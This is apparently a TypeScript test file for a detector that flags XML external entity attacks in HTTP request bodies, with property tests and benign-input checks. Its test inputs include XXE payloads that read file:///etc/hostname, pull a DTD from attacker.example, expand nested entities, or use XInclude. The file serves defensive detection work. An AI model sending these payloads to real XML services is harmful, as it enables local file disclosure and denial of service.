import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { expectRobust } from "../robustness.ts";
import { firing, HARD_BENIGN, value } from "../test-inputs.ts";
import { XML_ENTITIES } from "./detector.ts";

const fires = (raw: string, level = 1) => firing(XML_ENTITIES, value(raw, "", "http.request.body.content"), level);

describe("XML external entities", () => {
  it("reads external and parameter entities whatever the spacing, quoting and case", () => {
    fc.assert(
      fc.property(
        fc.constantFrom("SYSTEM", "system", 'PUBLIC "x"'),
        fc.constantFrom('"', "'"),
        fc.constantFrom(" ", "\n", "  "),
        fc.boolean(),
        (kw, q, sp, param) =>
          fires(
            `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY${sp}${param ? "% " : ""}e${sp}${kw}${sp}${q}file:///etc/hostname${q}>]><r>&e;</r>`,
          ).includes("sn-xxe-external-entity"),
      ),
    );
    expect(fires('<!DOCTYPE r [<!ENTITY % p "x">]>')).toContain("sn-xxe-external-entity");
    expect(fires('<!DOCTYPE r SYSTEM "http://attacker.example/x.dtd"><r/>')).toContain("sn-xxe-external-entity");
  });
  it("reads entity expansion, XInclude and internal entities", () => {
    expect(fires('<!DOCTYPE r [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;">]>')).toContain("sn-xxe-entity-expansion");
    expect(
      fires('<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hostname"/></r>'),
    ).toContain("sn-xxe-xinclude");
    expect(fires('<!DOCTYPE r [<!ENTITY a "x">]>')).toEqual([]);
    expect(fires('<!DOCTYPE r [<!ENTITY a "x">]>', 2)).toContain("sn-xxe-internal-entity");
  });
  it("leaves XHTML doctypes and benign text alone", () => {
    const xhtml =
      '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>';
    for (const text of [...HARD_BENIGN, xhtml, "<!-- entity system -->", "the ENTITY SYSTEM of a database"])
      expect([text, fires(text)]).toEqual([text, []]);
  });
  it("is robust", () => expectRobust(XML_ENTITIES, ["<!", "<!entity ", '<!entity a "', "<!doctype a ", "<a:include "]));
});
